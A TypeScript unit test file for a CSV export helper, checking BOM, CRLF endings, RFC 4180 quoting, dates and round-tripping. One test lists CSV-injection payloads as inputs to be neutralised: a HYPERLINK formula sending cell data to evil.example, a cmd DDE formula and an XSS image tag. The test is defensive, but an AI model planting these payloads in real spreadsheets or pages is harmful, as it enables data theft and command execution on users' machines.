import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvCell, toCsv, type CsvCell } from './csv';
import { readCsv } from '../../../tests/unit/reference';

describe('toCsv', () => {
  it('starts with a UTF-8 BOM and ends every line with CRLF', () => {
    const csv = toCsv(['Mã', 'Tên'], [['03424', 'Xã Bản Bo']]);
    expect(csv).toBe('\uFEFFMã,Tên\r\n03424,Xã Bản Bo\r\n');
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('Văn hóa - xã hội, môi trường')).toBe('"Văn hóa - xã hội, môi trường"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
  });

  it('writes numbers, booleans and missing values plainly', () => {
    expect(toCsv(['a', 'b', 'c', 'd', 'e', 'f'], [[17.3, -3, true, null, undefined, Number.NaN]])).toBe(
      '\uFEFFa,b,c,d,e,f\r\n17.3,-3,true,,,\r\n',
    );
  });

  it('writes dates as ISO days and keeps negative numbers numeric while guarding "-" text', () => {
    expect(csvCell(new Date(Date.UTC(2024, 11, 25)))).toBe('2024-12-25');
    expect(csvCell(new Date(Number.NaN))).toBe('');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('-12.5')).toBe("'-12.5");
  });

  it('neutralises formulas in text cells (CSV injection)', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
      "   =cmd|' /C calc'!A0",
    ];
    for (const h of hostile) {
      const out = csvCell(h);
      const unquoted = out.startsWith('"') ? out.slice(1, -1).replace(/""/g, '"') : out;
      expect(unquoted.startsWith("'")).toBe(true);
      expect(unquoted.slice(1)).toBe(h);
    }
    expect(csvCell('Xã = tốt')).toBe('Xã = tốt');
    expect(csvCell('<img src=x onerror=alert(1)>')).toBe('<img src=x onerror=alert(1)>');
  });

  it('reads back to the same cells (apart from the apostrophe guard) with an RFC 4180 reader', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('=1', 'a,b', '"', '\r\n'),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 5 }), (rows) => {
        const text = toCsv(['x', 'y'], rows as CsvCell[][]);
        const back = readCsv(text);
        expect(back).toHaveLength(rows.length);
        back.forEach((r, i) => {
          for (const [k, j] of [
            ['x', 0],
            ['y', 1],
          ] as const) {
            const orig = rows[i]![j];
            const got = r[k]!;
            expect(got === orig || got === `'${orig}`).toBe(true);
          }
        });
      }),
    );
  });
});
